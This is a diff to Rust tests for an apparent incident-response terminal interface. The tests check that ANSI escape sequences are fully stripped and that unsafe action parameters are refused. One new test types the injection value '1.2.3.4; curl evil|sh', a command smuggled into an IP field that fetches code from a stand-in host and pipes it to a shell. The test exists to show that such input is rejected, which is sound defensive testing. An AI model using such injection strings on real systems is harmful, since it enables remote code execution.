@@ -282,7 +282,9 @@ fn hostile_text_never_reaches_the_buffer() {
     let m = model_on_incident();
     let s = screen(&render(&m, 120, 40, Theme::from_env()));
     assert!(!s.contains('\u{1b}'));
-    assert!(s.contains("EDR: 14 hosts on FIN-VLAN encrypted[31m"), "{s}");
+    // The whole sequence goes, not only its ESC: no `[31m` remnant.
+    assert!(s.contains("EDR: 14 hosts on FIN-VLAN encrypted #edr"), "{s}");
+    assert!(!s.contains("[31m"), "{s}");
 }
 
 #[test]
@@ -1427,6 +1429,26 @@ fn proposing_an_action_asks_for_its_parameters_and_records_them() {
         Body::ActionSet(a) => assert_eq!(a.note.as_deref(), Some("parameters: HOST=fin-fs-02")),
         other => panic!("{other:?}"),
     }
+}
+
+#[test]
+fn a_parameter_value_that_could_never_run_is_refused_when_proposed() {
+    let mut m = model_on_incident();
+    select_action(&mut m, "block-ioc-egress");
+    update(&mut m, key('p'));
+    typed_text(&mut m, "1.2.3.4; curl evil|sh");
+    let fx = update(&mut m, code(KeyCode::Enter));
+    assert!(writes(&fx).is_empty(), "nothing written");
+    let flash = &m.flash.as_ref().unwrap().text;
+    assert!(
+        flash.contains("IOC_IP holds ';' '|'") && flash.contains("letters, digits"),
+        "{flash}"
+    );
+    // The editor stays open with what was typed, to be fixed.
+    let Some(Overlay::Editor(ed)) = &m.overlay else {
+        panic!("the editor closed")
+    };
+    assert_eq!(ed.text(), "IOC_IP=1.2.3.4; curl evil|sh");
 }
 
 #[test]
@@ -2767,6 +2789,7 @@ fn trusting(m: &mut Model, enabled: bool) {
         enabled,
         trusted: std::sync::Arc::new(std::collections::BTreeMap::from([(pb.content_hash(), pb)])),
         timeout: None,
+        settle: None,
     };
 }
 
